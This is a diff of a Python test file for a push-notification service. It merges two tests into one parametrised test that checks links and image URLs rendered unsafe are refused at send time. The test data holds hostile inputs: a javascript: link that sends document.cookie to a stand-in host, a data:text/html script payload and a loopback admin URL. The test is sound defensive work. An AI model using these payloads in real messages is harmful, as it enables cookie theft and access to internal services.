@@ -278,42 +278,30 @@ def test_bad_template_fields_are_form_errors(marketer_client, project, field, va
     assert not PushTemplate.objects.exists()
 
 
-def test_a_link_that_renders_to_javascript_is_refused_at_send(project, ana):
+def _send(project, subscriber, template, values):
+    return services.send_push(
+        project=project, subscriber=subscriber, template=template, actor=Actor(label="t"), values=values
+    )
+
+
+@pytest.mark.parametrize(
+    ("field", "bad", "good"),
+    [
+        ("link", "javascript:fetch('//evil.example?'+document.cookie)", "myapp://orders/42"),
+        ("link", "data:text/html,<script>alert(1)</script>", "https://shop.example/orders/42"),
+        ("image_url", "http://127.0.0.1:8000/admin/", "https://cdn.example/a.png"),
+    ],
+)
+def test_a_link_or_image_that_renders_unsafe_is_refused_at_send(project, ana, field, bad, good):
     from campaigns.services import SendRefused
 
-    template = PushTemplateFactory(project=project, link="{{ values.link }}")
+    template = PushTemplateFactory(project=project, **{field: "{{ values.x }}"})
     DeviceFactory(subscriber=ana)
-    with pytest.raises(SendRefused, match="deep link"):
-        services.send_push(
-            project=project,
-            subscriber=ana,
-            template=template,
-            actor=Actor(label="t"),
-            values={"link": "javascript:fetch('//evil.example?'+document.cookie)"},
-        )
-    assert not Message.objects.exists()
-    # An app's own scheme and https links go out.
-    for link in ("myapp://orders/42", "https://shop.example/orders/42"):
-        services.send_push(
-            project=project, subscriber=ana, template=template, actor=Actor(label="t"), values={"link": link}
-        )
-    assert Message.objects.count() == 2
-
-
-def test_an_image_that_renders_to_http_is_refused_at_send(project, ana):
-    template = PushTemplateFactory(project=project, image_url="{{ values.img }}")
-    DeviceFactory(subscriber=ana)
-    from campaigns.services import SendRefused
-
     with pytest.raises(SendRefused):
-        services.send_push(
-            project=project,
-            subscriber=ana,
-            template=template,
-            actor=Actor(label="t"),
-            values={"img": "http://127.0.0.1:8000/admin/"},
-        )
+        _send(project, ana, template, {"x": bad})
     assert not Message.objects.exists()
+    _send(project, ana, template, {"x": good})
+    assert Message.objects.count() == 1
 
 
 @pytest.mark.parametrize("body", [LIQUID_LOOP, LIQUID_DOUBLING])
